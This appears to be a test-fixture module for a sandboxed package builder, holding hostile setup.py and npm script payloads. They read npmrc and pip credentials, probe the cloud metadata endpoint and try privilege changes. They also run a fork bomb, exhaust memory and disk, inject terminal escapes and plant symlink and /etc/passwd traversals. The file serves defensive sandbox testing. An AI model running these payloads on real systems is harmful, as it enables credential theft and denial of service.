# Code of hostile packages, as text. It is run in sandboxes only, by tests that look at what it could
# do: what it found is in the module REPORT of the package that it makes.

# Tries everything that a build must not let it have, and then builds an ordinary package.
HOSTILE_SETUP = r'''
import glob, json, os, socket, subprocess, sys, threading
report = {"ran": True, "uid": os.getuid()}

def attempt(name, action):
    try:
        report[name] = repr(action())[:300]
    except BaseException as error:
        report[name] = "refused: %s" % type(error).__name__

def connect(address, port):
    with socket.create_connection((address, port), timeout=2):
        return "connected"

attempt("network", lambda: connect("93.184.216.34", 80))
attempt("index", lambda: connect("10.20.0.80", 443))
attempt("name", lambda: socket.gethostbyname("index.packages.test"))
attempt("metadata", lambda: connect("169.254.169.254", 80))
attempt("interfaces", lambda: socket.if_nameindex())
report["environment"] = sorted(os.environ)
report["settings"] = {}
for path in ["/home/user/in/pip.conf", "/home/user/in/npmrc", "/home/user/in/ca.pem", "/home/user/in/request.json", "/root/.npmrc",
             os.path.expanduser("~/.npmrc"), os.path.expanduser("~/.config/pip/pip.conf"), os.environ.get("PIP_CONFIG_FILE", "")]:
    try:
        report["settings"][path] = open(path).read(300)
    except OSError:
        pass
report["written"] = []
for path in ["/usr/evil", "/usr/local/bin/python3", "/etc/evil", "/opt/glovebox/evil", "/opt/glovebox-packages/evil", "/layer/evil",
             "/evil", "/opt/glovebox/packages/pip_fetch.py"]:
    try:
        with open(path, "a") as file:
            file.write("evil")
        report["written"].append(path)
    except OSError:
        pass
attempt("chown", lambda: os.chown("/home/user", 0, 0))
attempt("setuid", lambda: os.setuid(0))
attempt("mount", lambda: subprocess.run(["mount", "-t", "tmpfs", "none", "/mnt"], check=True, capture_output=True))
attempt("other processes", lambda: [one for one in glob.glob("/proc/[0-9]*") if os.access(one + "/environ", os.R_OK)])
# What a terminal would obey, and what would look like words of others.
print("\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m \x9b2J \u202eevil\u202c")
print("x" * 100000)
sys.stdout.buffer.write(bytes(range(256)) + b"\n")
with open("hostile.py", "w") as file:
    file.write("import json\nREPORT = json.loads(%r)\n" % json.dumps(report))
from setuptools import setup
setup(name="hostile", version="1.0", py_modules=["hostile"])
'''

# Leaves a process behind that has pip's pipe in its hand, so that pip waits for its end, and that
# says what has come of the build.
LINGERING_SETUP = r'''
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        end = time.time() + 600
        while time.time() < end:
            try:
                with open("/home/user/out/result.json", "w") as file:
                    file.write('{"state": "ready", "file": "../../../etc/passwd"}')
            except OSError:
                pass
            time.sleep(0.01)
    os._exit(0)
open("lingering.py", "w").write("VERSION = 1\\n")
from setuptools import setup
setup(name="lingering", version="1.0", py_modules=["lingering"])
'''

FORK_BOMB_SETUP = '''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
'''
# More output than is useful, then memory until there is none.
GREEDY_SETUP = '''
import sys
for number in range(200000):
    print("line", number, "." * 100)
sys.stdout.flush()
held = []
while True:
    held.append(bytearray(64 << 20))
'''
DISK_SETUP = '''
with open("fill.bin", "wb") as file:
    while True:
        file.write(bytes(16 << 20))
'''
SLEEPING_SETUP = "import time\ntime.sleep(3600)\n"
# Makes a wheel of another package than it was asked for.
IMPOSTOR_SETUP = '''
open("good.py", "w").write("VERSION = 'impostor'\\n")
from setuptools import setup
setup(name="good", version="99.0")
'''
# A build whose output directory leads elsewhere.
LINKING_SETUP = '''
import os, shutil
shutil.rmtree("/home/user/out", ignore_errors=True)
os.symlink("/etc", "/home/user/out")
open("linking.py", "w").write("VERSION = 1\\n")
from setuptools import setup
setup(name="linking", version="1.0")
'''

HOSTILE_SCRIPT = r'''
const fs = require("fs"), net = require("net"), child = require("child_process");
const report = { ran: true, uid: process.getuid(), environment: Object.keys(process.env).sort(), settings: {}, written: [] };
for (const path of ["/home/user/in/npmrc", "/home/user/in/ca.pem", "/root/.npmrc", (process.env.HOME || "") + "/.npmrc"]) {
  try { report.settings[path] = fs.readFileSync(path, "utf8").slice(0, 300); } catch {}
}
for (const path of ["/usr/evil", "/usr/local/bin/node", "/etc/evil", "/layer/evil", "/evil", "/opt/glovebox/packages/npm_fetch.py"]) {
  try { fs.appendFileSync(path, "evil"); report.written.push(path); } catch {}
}
// Links that lead out of the tree, and one in the place of a directory of ours.
try { fs.symlinkSync("/etc", "leads-out"); fs.symlinkSync("../../../../../etc/passwd", "passwd"); } catch {}
const left = child.spawn("sh", ["-c", "while :; do echo left; sleep 0.05; done"], { detached: true, stdio: "inherit" });
left.unref();
process.stdout.write("\x1b]0;owned\x07\x1b[2J\x1b[31mred\n");
const socket = net.connect(443, "10.20.0.80");
const done = (word) => { report.network = word; fs.writeFileSync("report.json", JSON.stringify(report)); process.exit(0); };
socket.on("connect", () => done("connected"));
socket.on("error", (error) => done("refused: " + error.code));
setTimeout(() => done("silent"), 2000);
'''


def marking_setup(marker, name, version="1.0"):
    """For tests outside of a sandbox: all it does is to leave a mark, if it is run."""
    return f"open({marker!r}, 'a').write('setup ')\nopen({name.replace('-', '_')!r} + '.py', 'w').write('VERSION = 1\\n')\n" \
           f"from setuptools import setup\nsetup(name={name!r}, version={version!r})\n"


def marking_backend(marker):
    """A backend in the package's own tree, which leaves a mark whenever any of it is used."""
    return f"open({marker!r}, 'a').write('backend ')\nfrom tiny_backend import *\n" \
           f"def get_requires_for_build_wheel(settings=None):\n    open({marker!r}, 'a').write('hook ')\n    return []\n"


def marking_pth(marker):
    return f"import os; open({marker!r}, 'a').write('pth ')\n"
